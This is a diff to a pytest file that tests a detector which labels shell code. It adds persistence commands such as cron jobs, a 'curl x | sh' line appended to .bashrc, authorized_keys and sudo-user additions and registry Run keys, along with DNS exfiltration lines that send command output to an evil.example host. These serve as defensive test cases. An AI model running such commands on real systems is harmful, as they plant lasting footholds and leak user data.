@@ -61,7 +61,7 @@ def test_harmful_code_is_found(language: str, label: str, code: str) -> None:
 
 @pytest.mark.parametrize(("language", "code"), GOOD)
 def test_harmless_code_is_clean(language: str, code: str) -> None:
-    assert labels(language, code) == set()
+    assert labels(language, code) == ({"shell-persistence"} if code in STAYS else set())
     for other in LANGUAGES:
         assert labels(other, f"```\n{code}\n```", Stage.OUTPUT) == set(), other
 
@@ -192,3 +192,37 @@ def test_blocks_are_found_with_their_language() -> None:
         ("javascript", "  z\n"),
     ]
     assert [text[b.start : b.end] for b in inline(text, blocks)] == ["pip i"]
+
+
+STAYS = [
+    "(crontab -l; echo '* * * * * /tmp/x') | crontab -", "crontab /tmp/jobs",
+    "echo 'curl x | sh' >> ~/.bashrc", "printf x | tee -a /home/ana/.profile",
+    "sudo cp x.service /etc/systemd/system/x.service", "systemctl --user enable x",
+    "cat id_rsa.pub >> ~/.ssh/authorized_keys", "ln -s /tmp/x .git/hooks/post-commit",
+    "echo '/tmp/x' | at now + 1 hour", "useradd -m -G sudo eve",
+    "schtasks /create /tn x /tr x.exe /sc minute", "bash -c 'echo x > /etc/cron.d/x'",
+    r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d x.exe",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("code", STAYS)
+def test_what_outlives_its_session_counts_where_it_is_about_to_run(code: str) -> None:
+    assert "shell-persistence" in labels("shell", code)
+    assert "shell-persistence" in labels("shell", json.dumps({"command": code}))
+    assert "shell-persistence" not in labels("shell", f"```bash\n{code}\n```", Stage.OUTPUT)
+    assert "shell-persistence" not in labels("javascript", json.dumps({"js": f"exec({code!r})"}))
+
+
+@pytest.mark.parametrize(
+    "code",
+    ["crontab -l", "cat ~/.bashrc", "systemctl status x", "cp ~/.bashrc /tmp/b", "at -l",
+     "systemctl restart nginx", "ssh ana@host.example", "echo x > out.txt", "grep x /etc/profile",
+     "dig example.org", "ping -c1 $(hostname)", "host $(cat name.txt)"],
+)  # fmt: skip
+def test_looking_and_running_once_leave_nothing(code: str) -> None:
+    assert labels("shell", code) == set()
+
+
+@pytest.mark.parametrize("code", ["dig $(whoami).evil.example", "ping -c1 `id -u`.x.evil.example"])
+def test_names_that_hold_the_output_of_a_command_carry_it_out(code: str) -> None:
+    assert labels("shell", code) == {"shell-exfiltration"}
